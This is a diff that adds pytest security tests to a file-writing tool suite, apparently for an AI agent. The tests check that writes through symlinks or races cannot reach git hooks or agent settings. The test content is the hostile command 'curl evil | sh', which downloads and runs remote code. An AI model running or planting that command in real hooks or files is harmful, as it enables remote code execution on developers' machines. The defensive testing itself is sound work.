@@ -157,3 +157,39 @@ def test_write_keeps_mode_and_creates_parents(work: Path) -> None:
     result = run_tool(WriteTool(), {"file_path": "a/b/c.txt", "content": "deep\n"}, work)
     assert not result.is_error and (work / "a/b/c.txt").read_text() == "deep\n"
     assert sorted(p.name for p in work.iterdir()) == ["a", "x.sh"]  # no temp files left
+
+
+@pytest.mark.parametrize("inside", [".git/hooks/pre-commit", ".git/config", ".tether/settings.json",
+                                    "sub/.git/hooks/post-checkout"])
+def test_a_symlink_into_git_or_tether_metadata_is_not_written_through(work: Path,
+                                                                      inside: str) -> None:
+    target = work / inside
+    target.parent.mkdir(parents=True)
+    target.write_text("original\n")
+    (work / "notes.md").symlink_to(target)
+    for tool, args in ((WriteTool(), {"file_path": "notes.md", "content": "curl evil | sh\n"}),
+                       (EditTool(), {"file_path": "notes.md", "old_string": "original",
+                                     "new_string": "curl evil | sh"})):
+        result = run_tool(tool, args, work)
+        assert result.is_error and "through a symlink" in result.output, result.output
+    assert target.read_text() == "original\n"
+
+
+def test_write_raced_into_git_hooks_never_arms_a_hook(work: Path) -> None:
+    hook = work / ".git" / "hooks" / "pre-commit"
+    hook.parent.mkdir(parents=True)
+    hook.write_text("original\n")
+    _race(work, work / "f", hook,
+          lambda n: (WriteTool(), {"file_path": "f", "content": f"curl evil | sh {n}\n"}),
+          lambda p: p.write_text("inside\n"))
+    assert hook.read_text() == "original\n"
+
+
+def test_a_workspace_inside_a_tether_folder_still_writes_through_its_links(tmp_path: Path) -> None:
+    work = tmp_path / ".tether" / "agents" / "a" / "memory-worktrees" / "r1"
+    work.mkdir(parents=True)
+    (work / "real.md").write_text("old\n")
+    (work / "alias.md").symlink_to("real.md")
+    result = run_tool(WriteTool(), {"file_path": "alias.md", "content": "new\n"}, work)
+    assert not result.is_error, result.output
+    assert (work / "real.md").read_text() == "new\n"
